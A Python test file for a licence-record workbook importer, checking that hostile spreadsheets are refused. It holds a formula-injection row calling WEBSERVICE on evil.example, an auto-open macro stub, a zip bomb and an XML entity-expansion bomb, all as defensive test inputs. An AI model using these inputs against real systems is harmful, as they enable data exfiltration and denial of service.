"""Workbooks: several sheets, formulas, macros, and packages that mean harm."""

import io
import zipfile
from pathlib import Path

import pytest
from openpyxl import Workbook

from hub.feeds.errors import OtherKindError, WorkbookDamagedError, WorkbookTooLargeError
from hub.kernel.database import Database
from tests.support.feed_shapes import GOOD, HEAD, SHEET_HEADER, SHOP
from tests.support.loading import load, refused, write

MEGABYTE = 1 << 20


def sheet_rows(kind: object = "烟草专卖零售许可证", **changes: object) -> list[object]:
    row: dict[str, object] = dict(
        zip(
            SHEET_HEADER,
            [kind, "330802000001", "柯城试验商行", SHOP, "2024-01-01", "长期", "局", "01"],
            strict=True,
        )
    )
    return list((row | changes).values())


def workbook(*tables: tuple[str, list[list[object]]]) -> bytes:
    book = Workbook()
    book.remove(book.worksheets[0])
    for title, rows in tables:
        sheet = book.create_sheet(title)
        for row in rows:
            sheet.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def test_formulas_are_text_and_refused_macros_never_looked_at(db: Database, tmp_path: Path) -> None:
    load(db, write(tmp_path, "market.csv", f"{HEAD}\n{GOOD}\n"))
    rows = [
        list(SHEET_HEADER),
        sheet_rows(),
        sheet_rows(持证主体="=1+1"),
        sheet_rows("=A1"),
        sheet_rows(颁发机构='=WEBSERVICE("http://evil.example")'),
    ]
    path = write(tmp_path, "book.xlsm", workbook(("数据", rows)))
    with zipfile.ZipFile(path, "a") as package:
        package.writestr("xl/vbaProject.bin", b"Sub AutoOpen()")

    loading = load(db, path)

    assert loading.accepted == 1
    assert loading.refused == {"FORMULA": 2, "LICENSE_TYPE": 1}
    assert [row.sheet for row in refused(db, loading)] == ["数据"] * 3


def test_every_sheet_of_one_shape_is_loaded_and_notes_are_left_alone(db: Database, tmp_path: Path) -> None:
    load(db, write(tmp_path, "market.csv", f"{HEAD}\n{GOOD}\n"))
    one = [["某表"], list(SHEET_HEADER), sheet_rows(), sheet_rows("没有的证")]
    two = [list(SHEET_HEADER), sheet_rows(证照编号="330802000002"), sheet_rows("没有的证")]
    notes: list[list[object]] = [["填表说明"], ["一", "二"]]

    loading = load(db, write(tmp_path, "b.xlsx", workbook(("说明", notes), ("卫健", one), ("烟草", two))))

    assert (loading.accepted, loading.refused) == (2, {"LICENSE_TYPE": 2})
    assert [(row.sheet, row.line) for row in refused(db, loading)] == [("卫健", 4), ("烟草", 3)]


def test_a_zip_bomb_is_refused_before_it_is_unpacked(db: Database, tmp_path: Path) -> None:
    path = write(tmp_path, "bomb.xlsx", workbook(("数据", [list(SHEET_HEADER)])))
    with zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED) as package:
        package.writestr("xl/worksheets/sheet2.xml", b"\0" * (64 * MEGABYTE))

    with pytest.raises(WorkbookTooLargeError):
        load(db, path)


def test_a_workbook_with_an_entity_bomb_is_refused(db: Database, tmp_path: Path) -> None:
    whole = workbook(("数据", [list(SHEET_HEADER), sheet_rows()]))
    path = tmp_path / "laughs.xlsx"
    bomb = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]><x>&b;</x>'
    with zipfile.ZipFile(io.BytesIO(whole)) as source, zipfile.ZipFile(path, "w") as target:
        for part in source.infolist():
            content = bomb if part.filename == "xl/worksheets/sheet1.xml" else source.read(part)
            target.writestr(part.filename, content)

    with pytest.raises(WorkbookDamagedError):
        load(db, path)


def test_a_made_up_row_number_does_not_loop_for_ever(db: Database, tmp_path: Path) -> None:
    whole = workbook(("数据", [list(SHEET_HEADER), sheet_rows()]))
    path = tmp_path / "far.xlsx"
    with zipfile.ZipFile(io.BytesIO(whole)) as source, zipfile.ZipFile(path, "w") as target:
        for part in source.infolist():
            content = source.read(part)
            if part.filename == "xl/worksheets/sheet1.xml":
                content = content.replace(b'<row r="2">', b'<row r="2000000000">')
            target.writestr(part.filename, content)

    with pytest.raises(WorkbookDamagedError):
        load(db, path)


def test_rows_beyond_the_size_a_sheet_claims_are_read(db: Database, tmp_path: Path) -> None:
    load(db, write(tmp_path, "market.csv", f"{HEAD}\n{GOOD}\n"))
    whole = workbook(("数据", [list(SHEET_HEADER), sheet_rows(), sheet_rows(证照编号="330802000002")]))
    path = tmp_path / "small.xlsx"
    with zipfile.ZipFile(io.BytesIO(whole)) as source, zipfile.ZipFile(path, "w") as target:
        for part in source.infolist():
            content = source.read(part).replace(b'<dimension ref="A1:H3"', b'<dimension ref="A1:B2"')
            target.writestr(part.filename, content)

    assert load(db, path).accepted == 2


def test_a_package_without_a_workbook_or_with_broken_parts_is_refused(db: Database, tmp_path: Path) -> None:
    letter = tmp_path / "letter.xlsx"
    with zipfile.ZipFile(letter, "w") as package:
        package.writestr(
            "[Content_Types].xml",
            "<Types xmlns='http://schemas.openxmlformats.org/package/2006/content-types'/>",
        )
        package.writestr("word/document.xml", "<x/>")
    whole = bytearray(workbook(("数据", [list(SHEET_HEADER), sheet_rows()])))
    start = whole.index(b"xl/worksheets/sheet1.xml") + 40
    whole[start : start + 30] = b"\xff" * 30
    broken = write(tmp_path, "broken.xlsx", bytes(whole))

    with pytest.raises(OtherKindError):
        load(db, letter)
    with pytest.raises(WorkbookDamagedError):
        load(db, broken)
